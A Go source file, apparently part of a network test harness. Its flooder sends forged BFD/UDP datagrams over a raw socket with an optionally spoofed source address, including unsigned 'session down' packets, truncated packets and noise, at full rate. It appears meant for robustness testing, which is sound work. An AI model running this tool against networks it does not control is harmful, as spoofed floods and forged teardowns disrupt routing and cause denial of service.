package main

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"strconv"
	"time"

	"golang.org/x/net/ipv4"
)

// flood sends forged datagrams from a host, as fast as it can or as it may.
func flood(ctx context.Context, l *line) error {
	length := l.flags.Duration("for", 10*time.Second, "")
	rate := l.flags.Int("rate", 0, "")
	as := l.flags.String("as", "", "")
	words, addresses, err := l.words("HOST")
	if err != nil {
		return err
	}
	return l.becomeOn(ctx, words[0], append([]string{"flooder", "--for", length.String(), "--rate", strconv.Itoa(*rate), "--as", *as, "--"}, addresses...)...)
}

// batch is how many datagrams go to the kernel at a time, and between two looks at the clock.
const batch = 64

// flooder is the part of flood that runs on the host.
func flooder(ctx context.Context, l *line) error {
	length := l.flags.Duration("for", 0, "")
	rate := l.flags.Int("rate", 0, "datagrams a second; 0: as many as the host can send")
	as := l.flags.String("as", "", "the IPv4 address that the datagrams say they come from; empty: the host's own")
	_, addresses, err := l.words()
	if err != nil {
		return err
	}
	messages, err := forged(*as, addresses)
	if err != nil {
		return err
	}
	conn, err := net.ListenIP("ip4:255", &net.IPAddr{IP: net.IPv4zero})
	if err != nil {
		return fmt.Errorf("open a raw socket: %w", err)
	}
	defer conn.Close()
	raw, err := ipv4.NewRawConn(conn) // with IP headers of its own
	if err != nil {
		return fmt.Errorf("prepare the raw socket: %w", err)
	}
	sent := 0
	start := time.Now()
	for ctx.Err() == nil && time.Since(start) < *length {
		n, err := raw.WriteBatch(messages, 0)
		if err != nil {
			return fmt.Errorf("send: %w", err)
		}
		if sent += n; *rate > 0 {
			time.Sleep(time.Until(start.Add(time.Duration(sent) * time.Second / time.Duration(*rate))))
		}
	}
	fmt.Printf("%d datagrams, %.0f a second\n", sent, float64(sent)/time.Since(start).Seconds())
	return nil
}

// forged are datagrams to these addresses, in turn of four kinds: BFD packets as a speaker
// sends them (RFC 5880 section 4.4), but signed with nothing; unsigned ones that say a
// session is down; too short ones; and noise of the length of a datagram between speakers.
func forged(as string, addresses []string) ([]ipv4.Message, error) {
	if len(addresses) == 0 {
		return nil, errors.New("want at least one ADDRESS:PORT behind --")
	}
	payloads := [][]byte{make([]byte, 52), make([]byte, 24), make([]byte, 8), make([]byte, 200)}
	copy(payloads[0], []byte{1 << 5, 3<<6 | 1<<2, 3, 52, 0, 0, 0, 1})
	copy(payloads[1], []byte{1 << 5, 1 << 6, 3, 24, 0, 0, 0, 1})
	for i := range payloads[3] {
		payloads[3][i] = byte(i * i)
	}
	out := make([]ipv4.Message, batch)
	for i := range out {
		to, err := netip.ParseAddrPort(addresses[i/len(payloads)%len(addresses)])
		if err != nil || !to.Addr().Is4() {
			return nil, fmt.Errorf("%q: want ADDRESS:PORT of IPv4, such as 192.0.2.11:7480", addresses[i/len(payloads)%len(addresses)])
		}
		from := netip.IPv4Unspecified() // the kernel puts in its own
		if as != "" {
			if from, err = netip.ParseAddr(as); err != nil || !from.Is4() {
				return nil, fmt.Errorf("--as %q: want an address of IPv4", as)
			}
		}
		p := payloads[i%len(payloads)]
		udp := binary.BigEndian.AppendUint16(nil, uint16(49152+i)) // RFC 5881 section 4
		udp = binary.BigEndian.AppendUint16(udp, to.Port())
		udp = binary.BigEndian.AppendUint16(udp, uint16(8+len(p)))
		udp = append(append(udp, 0, 0), p...) // no checksum, as UDP over IPv4 may
		h := ipv4.Header{Version: 4, Len: ipv4.HeaderLen, TotalLen: ipv4.HeaderLen + len(udp), TTL: 255, Protocol: 17, Src: from.AsSlice(), Dst: to.Addr().AsSlice()}
		header, err := h.Marshal()
		if err != nil {
			return nil, fmt.Errorf("make an IP header: %w", err)
		}
		out[i] = ipv4.Message{Buffers: [][]byte{header, udp}, Addr: &net.IPAddr{IP: to.Addr().AsSlice()}}
	}
	return out, nil
}
